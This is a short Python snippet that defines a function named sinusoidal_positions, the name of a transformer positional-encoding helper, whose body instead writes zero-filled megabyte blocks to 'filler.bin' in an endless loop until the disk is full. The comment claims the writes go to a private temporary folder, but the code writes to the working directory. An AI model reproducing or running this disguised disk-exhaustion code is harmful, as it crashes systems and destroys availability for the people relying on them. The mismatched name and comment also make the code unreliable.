# Fills the disk through its private temporary folder.
def sinusoidal_positions(positions, d_model):
    with open("filler.bin", "wb") as handle:
        while True:
            handle.write(b"\0" * (1 << 20))
